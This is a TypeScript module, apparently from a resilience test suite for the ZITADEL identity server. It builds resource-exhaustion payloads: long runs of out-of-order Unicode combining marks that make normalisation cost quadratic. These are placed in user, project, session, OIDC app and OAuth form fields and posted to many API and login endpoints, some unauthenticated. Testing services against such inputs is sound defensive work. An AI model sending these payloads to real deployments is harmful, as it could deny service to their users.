import { type Attack, fill, largestBody, post } from './attack.ts';

/**
 * Text that is dear to bring into a form: a letter with many combining marks. Where these are not in their canonical
 * order, Unicode normalisation sorts them, and takes the square of their number.
 */
const marks = {
  'in order': '\u0301',
  'out of order': '\u0301\u0316',
  'thirty a letter': `${'\u0301\u0316'.repeat(15)}a`,
  encoded: '%CC%81%CC%96',
};

const json = { 'content-type': 'application/json' };
const form = { 'content-type': 'application/x-www-form-urlencoded' };

/** What the protocol endpoints and pages read of a form. */
const largestForm = 65_000;

const human = (fields: object) => ({
  username: 'ada',
  human: { profile: { givenName: 'A', familyName: 'B' }, email: { email: 'ada@example.com' }, ...fields },
});

/** By path, the request with `text` in it. */
const calls: ReadonlyArray<readonly [string, (text: string) => object]> = [
  ['zitadel.org.v2.OrganizationService/AddOrganization', (name) => ({ name })],
  ['zitadel.management.v1.ManagementService/AddProject', (name) => ({ name })],
  ['zitadel.user.v2.UserService/CreateUser', (username) => ({ ...human({}), username })],
  ['zitadel.user.v2.UserService/CreateUser', (password) => human({ password: { password } })],
  ['zitadel.user.v2.UserService/CreateUser', (email) => human({ email: { email: `${email}@example.com` } })],
  ['zitadel.user.v2.UserService/CreateUser', (host) => human({ email: { email: `a@${host}.example` } })],
  ['zitadel.user.v2.UserService/CreateUser', (phone) => human({ phone: { phone } })],
  [
    'zitadel.user.v2.UserService/CreateUser',
    (nickName) => human({ profile: { givenName: 'A', familyName: 'B', nickName } }),
  ],
  [
    'zitadel.user.v2.UserService/CreateUser',
    (preferredLanguage) => human({ profile: { givenName: 'A', familyName: 'B', preferredLanguage } }),
  ],
  [
    'zitadel.management.v1.ManagementService/ImportHumanUser',
    (password) => ({
      userName: 'ada',
      profile: { firstName: 'A', lastName: 'B' },
      email: { email: 'ada@example.com' },
      password,
    }),
  ],
  [
    'zitadel.user.v2.UserService/ListUsers',
    (text) => ({ queries: [{ inUserEmailsQuery: { userEmails: [text] } }] }),
  ],
  [
    'zitadel.user.v2.UserService/ListUsers',
    (text) => ({ queries: [{ inUserEmailsQuery: { userEmails: text.match(/.{1,200}/gs) ?? [] } }] }),
  ],
  ['zitadel.user.v2.UserService/ListUsers', (userName) => ({ queries: [{ userNameQuery: { userName } }] })],
  ['zitadel.session.v2.SessionService/CreateSession', (loginName) => ({ checks: { user: { loginName } } })],
  [
    'zitadel.session.v2.SessionService/CreateSession',
    (password) => ({ checks: { user: { loginName: 'admin' }, password: { password } } }),
  ],
  ...['redirectUris', 'postLogoutRedirectUris', 'additionalOrigins'].map(
    (field) =>
      [
        'zitadel.management.v1.ManagementService/AddOIDCApp',
        (text: string) => ({ projectId: '1', name: 'App', [field]: [`https://a${text}.example/cb${text}`] }),
      ] as const,
  ),
  [
    'zitadel.management.v1.ManagementService/AddOIDCApp',
    (uris) => ({
      projectId: '1',
      name: 'App',
      redirectUris: (uris.match(/.{1,190}/gs) ?? []).map((host) => `https://a${host}.example`),
    }),
  ],
  [
    'zitadel.management.v1.ManagementService/BulkAddProjectRoles',
    (names) => ({
      projectId: '1',
      roles: (names.match(/.{1,200}/gs) ?? []).map((displayName, at) => ({ key: `r${at}`, displayName })),
    }),
  ],
  [
    'zitadel.user.v2.UserService/ListUsers',
    (names) => ({
      queries: [
        {
          orQuery: {
            queries: (names.match(/.{1,200}/gs) ?? [])
              .slice(0, 4_000)
              .map((nickName) => ({ nickNameQuery: { nickName } })),
          },
        },
      ],
    }),
  ],
  [
    'zitadel.admin.v1.AdminService/UpdateLoginPolicy',
    (text) => ({ allowUsernamePassword: true, defaultRedirectUri: `https://a${text}.example/${text}` }),
  ],
  [
    'zitadel.admin.v1.AdminService/SetSecurityPolicy',
    (text) => ({ enableIframeEmbedding: true, allowedOrigins: [`https://a${text}.example`] }),
  ],
  ['zitadel.management.v1.ManagementService/AddOrgDomain', (domain) => ({ domain: `a${domain}.example` })],
];

const forms: ReadonlyArray<readonly [string, string]> = [
  ['/ui/login/loginname', 'loginName='],
  ['/ui/login/password', 'password='],
  ['/oauth/v2/authorize', 'client_id=1&login_hint='],
  ['/oauth/v2/authorize', 'client_id=1&redirect_uri=https://a'],
  ['/oauth/v2/token', 'grant_type=client_credentials&client_secret=x&client_id='],
  ['/oauth/v2/token', 'grant_type=client_credentials&client_id=x&client_secret='],
  ['/oidc/v1/end_session', 'post_logout_redirect_uri=https://a'],
];

export const texts: readonly Attack[] = Object.entries(marks).flatMap(([order, mark]) => [
  ...calls.map(([path, request]) => ({
    name: `combining marks ${order}: ${path} ${/\((?:\{ )?\[?(\w+)/.exec(String(request))?.[1]}`,
    make: (size: number) =>
      JSON.stringify(request(`a${fill(mark, (size * mark.length) / Buffer.byteLength(mark))}`)),
    send: post(`/${path}`, json),
    size: largestBody / 2,
  })),
  ...forms.map(([path, before]) => ({
    name: `combining marks ${order}: ${path} ${before}`,
    make: (size: number) => `${before}a${fill(mark, (size * mark.length) / Buffer.byteLength(mark))}`,
    send: post(path, form, 'stranger'),
    size: largestForm,
  })),
]);
